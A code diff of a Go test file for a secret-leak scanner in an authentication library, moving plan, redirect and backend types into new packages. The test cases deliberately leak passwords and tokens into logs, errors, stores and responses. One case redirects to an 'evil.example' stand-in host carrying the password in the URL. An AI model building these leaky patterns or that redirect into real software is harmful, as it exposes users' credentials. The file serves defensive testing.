@@ -10,7 +10,9 @@ import (
 	"github.com/amend-go/amend/respond"
 	"github.com/amend-go/amend/session"
 	"github.com/amend-go/amend/settings"
+	"github.com/amend-go/amend/settings/method"
 	"github.com/amend-go/amend/settings/settingstest"
+	"github.com/amend-go/amend/settings/store"
 )
 
 // A scan that finds nothing shows nothing, unless it finds what is there.
@@ -36,8 +38,8 @@ func TestLeaksAreFound(t *testing.T) {
 			kit.Config.Logger.Debug("added " + oldPassword)
 		}, "leaked: password in the log"},
 		{"a password in the error of a method", func(t testing.TB) {
-			submit(t, respond.API, only(careless{plan: func(value string) settings.Plan {
-				return settings.Plan{Do: func(context.Context) (settings.Result, error) {
+			submit(t, respond.API, only(careless{plan: func(value string) method.Plan {
+				return method.Plan{Do: func(context.Context) (method.Result, error) {
 					return nil, fmt.Errorf("not a good one: %s", value)
 				}}
 			}}))
@@ -55,14 +57,14 @@ func TestLeaksAreFound(t *testing.T) {
 			kit.Config.Logger.Info("started", "form", kit.SignIn(kit.AddIdentity("ada@example.com", ""), respond.Script).Start().CSRFToken())
 		}, "leaked: form token in the log"},
 		{"a password kept in a flow", func(t testing.TB) {
-			submit(t, respond.Page, only(careless{echo: true, plan: func(string) settings.Plan { return refuses("no") }}))
+			submit(t, respond.Page, only(careless{echo: true, plan: func(string) method.Plan { return refuses("no") }}))
 		}, "leaked: password in a store"},
 		{"a password kept in an identity", func(t testing.TB) {
-			submit(t, respond.Page, only(careless{plan: func(value string) settings.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}))
+			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}))
 		}, "leaked: password in a store"},
 		{"a password kept in an identity by a backend", func(t testing.TB) {
-			submit(t, respond.Page, only(careless{plan: func(value string) settings.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}),
-				func(c *settings.Config) { c.Backend = c.Flows.(settings.Backend) })
+			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan { return sets(fmt.Sprintf(`{"was":%q}`, value)) }}),
+				func(c *settings.Config) { c.Backend = c.Flows.(store.Backend) })
 		}, "leaked: password in a store"},
 		{"a session token kept in a session", func(t testing.TB) {
 			kit := settingstest.New(t)
@@ -74,11 +76,11 @@ func TestLeaksAreFound(t *testing.T) {
 			}
 		}, "leaked: session token in a store"},
 		{"a password that is sent back", func(t testing.TB) {
-			submit(t, respond.Script, only(careless{plan: func(value string) settings.Plan { return refuses(value + " is not allowed") }}))
+			submit(t, respond.Script, only(careless{plan: func(value string) method.Plan { return refuses(value + " is not allowed") }}))
 		}, "leaked: password in an answer"},
 		{"a password in a redirect", func(t testing.TB) {
-			submit(t, respond.Page, only(careless{plan: func(value string) settings.Plan {
-				return does(settings.Redirect{URL: func(string) string { return "https://evil.example/?p=" + urlEscape(value) }})
+			submit(t, respond.Page, only(careless{plan: func(value string) method.Plan {
+				return does(method.Redirect{URL: func(string) string { return "https://evil.example/?p=" + urlEscape(value) }})
 			}}))
 		}, "leaked: password in an answer"},
 		{"a secret of the test's own", func(t testing.TB) {
@@ -105,7 +107,7 @@ func TestWhatIsNoLeak(t *testing.T) {
 				failures := run(t, func(t testing.TB) {
 					kit := settingstest.New(t, func(c *settings.Config) {
 						if backend {
-							c.Backend = c.Flows.(settings.Backend)
+							c.Backend = c.Flows.(store.Backend)
 						}
 					})
 					ada := kit.AddIdentity("ada@example.com", oldPassword)
